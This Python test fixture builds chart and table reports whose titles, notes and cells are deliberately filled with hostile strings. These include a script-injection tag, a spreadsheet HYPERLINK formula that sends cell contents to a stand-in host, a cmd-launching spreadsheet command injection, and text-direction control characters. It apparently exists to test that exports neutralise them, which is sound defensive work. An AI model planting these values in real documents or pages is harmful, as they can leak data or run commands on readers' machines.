"""A report folder of every kind of chart with texts that try to do harm, for the tests of slides and workbook."""

import json

import numpy as np
import pandas as pd
from chart_examples import EXAMPLES

from analysis import charts, tables
from analysis.herberg import uncertainty
from analysis.rows import EVIDENCE

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "formula": '=HYPERLINK("http://ondt.example/?"&A1;"klik")',
    "quote": "Kommunen \"Sø's\" & Ø'er",
    "newline": "Første linje\nanden linje",
    "turned": "abc\u202egnivnev\u202c \u200fdef",
    "control": "klokke\x07 og \x0b tab",
    "command": "+cmd|' /C calc'!A0",
    "long": "Meget langt navn uden ende " * 12,
    "unbroken": "x" * 300,
}


def hostile_bars():
    rows = [(name, series, value) for value, name in enumerate(HOSTILE.values(), -3) for series in ("før", "=1+1")]
    frame = pd.DataFrame(rows, columns=["name", "series", "value"]).astype({"value": float})
    frame.loc[5, "value"] = np.nan
    return charts.bars(
        frame, y="name", hue="series", palette={"før": "#A9B4BC", "=1+1": "#0A5C8F"}, unit="=pct.", decimals=1
    )


def without_data():
    empty = pd.DataFrame({"name": ["Metode"], "low": [np.nan], "value": [np.nan], "high": [np.nan]})
    return uncertainty.intervals(empty, unit="pladser")


def one_point():
    single = pd.DataFrame({"year": [2024], "series": ["Indsats"], "value": [4.0]})
    return charts.lines(single, hue="series", unit="pct.")


def negative_shares():
    shares = pd.DataFrame({"year": [2020, 2020, 2024, 2024], "series": ["a", "b"] * 2, "value": [-20.0, 120, -5, 105]})
    return charts.stacked_columns(shares, hue="series", unit="pct.")


def facts_of(folder, output, drawn, title):
    contents = drawn.contents
    images = charts.images(drawn, output, [])
    (folder / "figurer" / f"{output}.png").write_bytes(images.pixels)
    return {
        "output": output, "title": title, "number": "", "alt": f"{title} {contents.kind}", "origin": "reconstruction",
        "rows": 3, "left_out": "", "below": ["Kilde: Danmarks Statistik.", HOSTILE["formula"], HOSTILE["script"]],
        "unit": contents.unit, "reading": f"Læsning {HOSTILE['control']}", "table": None,
        "margins": images.margins, "chart": json.loads(json.dumps(contents.facts(), allow_nan=False)),
    }  # fmt: skip


def hostile_sections(folder):
    """Sections as in a manifest: every kind of chart, hostile names, odd figures, a long and a wide table."""
    for name in ("data", "figurer"):
        (folder / name).mkdir(parents=True)
    rows = pd.DataFrame(
        {
            "indicator": "expenditure", "area_code": "084", "area": list(HOSTILE.values()), "value": 1234.5,
            "unit": "kr", "status": "final", "origin": "reconstruction", "note": HOSTILE["formula"], "year": 2024,
        }
    )  # fmt: skip
    rows.loc[1, ["value", "status"]] = [np.nan, "suppressed"]
    made = {f"figur_{name}": make() for name, make in EXAMPLES.items()}
    made |= {
        "figur_ond": hostile_bars(), "figur_tom": without_data(), "figur_punkt": one_point(),
        "figur_negativ": negative_shares(),
    }  # fmt: skip
    titles = list(HOSTILE.values())
    outputs = [
        facts_of(folder, name, drawn, titles[place % len(titles)]) | {"evidence": EVIDENCE[place % len(EVIDENCE)]}
        for place, (name, drawn) in enumerate(made.items())
    ]
    columns = ["Navn", "=A1", *(f"År {year}" for year in range(2015, 2024))]
    lines = [[f"{name} {copy}", *["1.234,5"] * 10] for copy in range(5) for name in HOSTILE.values()]
    table = {"columns": columns, "rows": lines, "numeric": columns[2:], "strong": [], "heading": "Navn"}
    outputs.append(
        outputs[0] | {"output": "tabel_lang", "title": HOSTILE["long"], "chart": None, "table": table, "alt": ""}
    )
    outputs.append(outputs[0] | {"output": "tabel_udeladt", "left_out": HOSTILE["script"], "chart": None})
    for facts in outputs:
        (folder / "data" / f"{facts['output']}.csv").write_bytes(tables.spreadsheet_csv(rows))
        (folder / "data" / f"{facts['output']}.parquet").write_bytes(tables.coded(rows))
    record = {"title": HOSTILE["script"], "outputs": outputs, "failed": "", "made": "2026-11-21T10:00:00+00:00"}
    failed = record | {"title": "Fejlet", "failed": "ValueError", "outputs": [outputs[0] | {"output": "figur_gammel"}]}
    (folder / "data" / "figur_gammel.csv").write_bytes(tables.spreadsheet_csv(rows))
    (folder / "data" / "figur_gammel.parquet").write_bytes(tables.coded(rows))
    return {"01_ond": record, "02_fejlet": failed}
